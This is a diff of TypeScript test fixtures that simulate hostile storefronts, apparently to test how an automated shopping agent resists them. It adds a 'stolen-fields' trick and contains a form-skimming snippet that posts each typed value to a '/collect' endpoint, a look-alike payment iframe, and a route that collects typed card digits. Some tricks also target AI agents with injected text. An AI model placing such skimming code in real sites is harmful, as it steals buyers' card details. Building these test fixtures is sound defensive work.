@@ -4,6 +4,7 @@ import type { Merchant } from '../../merchant.ts';
 import { hostedFieldPage } from '../../processor/processor-site.ts';
 import type { Extras } from '../storefront/extras.ts';
 import { type Storefront, storefrontRoutes } from '../storefront/storefront.ts';
+import { captureScript, NO_THEFT, type Theft, thiefCard, thiefRoutes } from './field-thief.ts';
 
 /** What a hostile shop tries. One shop tries one thing, so that a test knows what was resisted. */
 export const HOSTILE_TRICKS = [
@@ -15,6 +16,7 @@ export const HOSTILE_TRICKS = [
   'huge-page',
   'never-settles',
   'changing-total',
+  'stolen-fields',
 ] as const;
 
 export type HostileTrick = (typeof HOSTILE_TRICKS)[number];
@@ -32,11 +34,17 @@ const PRIVATE_ADDRESSES = [
 const HUGE_PAGE_BYTES = 48 * 1_024 * 1_024;
 
 /** A shop that works against its buyers, in the way that the trick names. */
-export function hostileRoutes(shop: Storefront, trick: HostileTrick, lookAlikeOrigin: () => string): Route[] {
+export function hostileRoutes(
+  shop: Storefront,
+  trick: HostileTrick,
+  lookAlikeOrigin: () => string,
+  theft: Theft = NO_THEFT,
+): Route[] {
   const { merchant } = shop;
   if (trick === 'endless-redirects') merchant.faults.set(merchant.name, { kind: 'endless_redirects' });
   if (trick === 'never-settles') merchant.faults.set(merchant.name, { kind: 'never_settles' });
-  const pages = storefrontRoutes({ ...shop, extras: () => extrasOf(trick, lookAlikeOrigin()) });
+  const pages = storefrontRoutes({ ...shop, extras: () => extrasOf(trick, lookAlikeOrigin(), theft) });
+  if (trick === 'stolen-fields') return [...thiefRoutes(merchant), ...collectRoutes(merchant), ...pages];
   if (trick === 'changing-total') return pages.map((page) => withRisingPrice(merchant, page));
   return [...entryRoutes(merchant, trick), ...pages];
 }
@@ -44,7 +52,13 @@ export function hostileRoutes(shop: Storefront, trick: HostileTrick, lookAlikeOr
 /** A second site on another origin: its frame looks like the processor's and keeps what is typed into it. */
 export function lookAlikeRoutes(merchant: Merchant): Route[] {
   return [
-    route('GET', '/elements/card', () => sendHtml(hostedFieldPage('all', CAPTURE_SCRIPT))),
+    route('GET', '/elements/card', () => sendHtml(hostedFieldPage('all', captureScript('/collect')))),
+    ...collectRoutes(merchant),
+  ];
+}
+
+function collectRoutes(merchant: Merchant): Route[] {
+  return [
     route('POST', '/collect', (request) => {
       const digits = (formBody(request).get('typed') ?? '').replaceAll(/\D/g, '');
       // Only the length is written down: the ledger is no place for a card number, not even a stolen one.
@@ -58,10 +72,6 @@ export function lookAlikeRoutes(merchant: Merchant): Route[] {
     }),
   ];
 }
-
-const CAPTURE_SCRIPT = `addEventListener('input', (event) => {
-  fetch('/collect', { method: 'POST', body: new URLSearchParams({ typed: event.target.value }) });
-});`;
 
 function entryRoutes(merchant: Merchant, trick: HostileTrick): Route[] {
   if (trick === 'huge-page') {
@@ -98,7 +108,7 @@ function withRisingPrice(merchant: Merchant, page: Route): Route {
   };
 }
 
-function extrasOf(trick: HostileTrick, lookAlikeOrigin: string): Extras {
+function extrasOf(trick: HostileTrick, lookAlikeOrigin: string, theft: Theft): Extras {
   switch (trick) {
     case 'injected-text':
       return { product: injection(), checkout: injection() };
@@ -108,6 +118,8 @@ function extrasOf(trick: HostileTrick, lookAlikeOrigin: string): Extras {
       return {
         card: html`<iframe src="${lookAlikeOrigin}/elements/card" title="Secure card payment input frame" name="__sandboxFieldall" style="border:0;width:100%;height:120px"></iframe>`,
       };
+    case 'stolen-fields':
+      return { card: thiefCard(theft) };
     default:
       return {};
   }
